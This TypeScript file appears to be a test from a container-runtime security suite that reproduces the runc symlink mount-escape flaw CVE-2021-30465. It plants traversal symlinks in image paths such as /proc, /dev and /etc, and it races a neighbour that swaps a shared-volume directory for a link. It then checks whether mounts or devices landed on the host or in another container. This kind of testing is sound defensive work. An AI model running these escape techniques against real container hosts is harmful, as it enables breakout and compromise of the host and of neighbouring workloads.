import { mkdirSync, readdirSync, symlinkSync, writeFileSync } from 'node:fs'
import type { SpecMount } from '../../../e2e/spec.ts'
import { contained, escaped, reachedGuest, type Attack, type Verdict } from '../../attack.ts'
import { oursRuntime } from '../../options.ts'
import type { Pod } from '../../pod.ts'
import { install } from '../../programs.ts'
import type { Site } from '../../site.ts'

/** A directory outside of the container that is made: what links name, where it lies on the host, and what a hit means. */
interface Outside { target: string; directory: string; hit: (evidence: string) => Verdict }

/** What it holds by now, and whether anything is mounted there in the host's eyes. */
function found(site: Site, { directory }: Outside): string {
  const mounts = site.host.shell(`grep -F ${directory} /proc/self/mountinfo || true`)
  return [...readdirSync(directory), ...mounts.split('\n').filter(Boolean)].join(' ')
}

const tmpfs = (destination: string): SpecMount => ({ destination, type: 'tmpfs', source: 'tmpfs', options: ['nosuid'] })

/** Links that lie in the image, where a mount of the spec has its destination or on the way there. */
async function imageLinks(site: Site, pod: Pod, outside: Outside): Promise<string[]> {
  const told: string[] = []
  for (const link of ['volume', 'proc', 'dev', 'sys', 'etc']) {
    const { refusal } = await site.attempt(pod.member({
      args: ['true'],
      rootfs: (layer) => symlinkSync(`/../../../../../../..${outside.target}`, `${layer}/${link}`),
      spec: (spec) => {
        if (link === 'volume') spec.mounts.push(tmpfs('/volume/inside'))
        if (link === 'etc') spec.mounts.push({ destination: '/etc/hosts', type: 'bind', source: `${site.directory}/hosts`, options: ['rbind', 'ro'] })
        // A /dev without a mount: the devices are made in what the image has there.
        if (link === 'dev') spec.mounts = spec.mounts.filter(({ destination }) => !destination.startsWith('/dev'))
      },
    }))
    told.push(`/${link}: ${refusal === undefined ? 'runs' : 'refused'}`)
    if (found(site, outside) !== '') break
  }
  return told
}

/** A neighbour swaps a directory of a shared volume for a link, while containers with a mount below it are made. */
async function race(site: Site, pod: Pod, outside: Outside): Promise<void> {
  const volume: SpecMount = { destination: '/v', type: 'bind', source: `${site.directory}/volume`, options: ['rbind', 'rw'] }
  mkdirSync(`${site.directory}/volume/directory/inside`, { recursive: true })
  symlinkSync(`/../../../../../../..${outside.target}`, `${site.directory}/volume/link`)
  const neighbour = await pod.start({
    rootfs: (layer) => install(layer, 'exchange'), args: ['/attack/exchange', '/v/directory', '/v/link', '/v/stop'],
    spec: (spec) => { spec.mounts.push(volume) },
  })
  await neighbour.output.until(/exchanging/)
  for (let round = 0; round < 5; round++) {
    await pod.start({ spec: (spec) => { spec.mounts.push(volume, tmpfs('/v/directory/inside')) } }).catch(() => undefined)
    if (found(site, outside) !== '') break
  }
  writeFileSync(`${site.directory}/volume/stop`, '')
}

/** The host's, which every runtime that works in its file system can reach; and where our agent has the root of another container, if that is what works here. */
async function outsides(site: Site, pod: Pod): Promise<Outside[]> {
  const onHost = `${site.directory}/outside`
  mkdirSync(onHost)
  const host: Outside = { target: onHost, directory: onHost, hit: escaped }
  if (site.runtime !== oursRuntime) return [host]
  let layer = ''
  const victim = await pod.start({
    rootfs: (directory) => {
      layer = directory
      mkdirSync(`${layer}/outside`)
    },
  })
  return [host, { target: `/run/kata-ts/share/${victim.containerId}/rootfs/outside`, directory: `${layer}/outside`, hit: reachedGuest }]
}

export const attack: Attack = {
  id: 'CVE-2021-30465',
  title: 'links in the image or swapped into a volume where the runtime mounts, makes devices and directories (also CVE-2026-41579)',
  family: 'container',
  leak: 'mounts over, devices in and files of directories of the host and of other containers',
  bound: 'container',
  control: { weak: 'Debian\'s runc 1.1.5, which makes devices where a /dev that is a link leads' },
  async run(site) {
    writeFileSync(`${site.directory}/hosts`, '127.0.0.1 localhost\n')
    const pod = await site.pod()
    const all = await outsides(site, pod)
    const told: string[] = []
    for (const outside of all) {
      told.push(...await imageLinks(site, pod, outside))
      // A race that the links have won already, or that works in another kernel, shows nothing.
      if (outside === all.at(-1) && found(site, outside) === '' && !site.weak) await race(site, pod, outside)
      const made = found(site, outside)
      if (made !== '') return outside.hit(`made in ${outside.directory}, outside of the container: ${made}`)
    }
    return contained(`${told.join(', ')}; 5 creations raced a swap; nothing was made or mounted in ${all.length} directories outside`)
  },
}
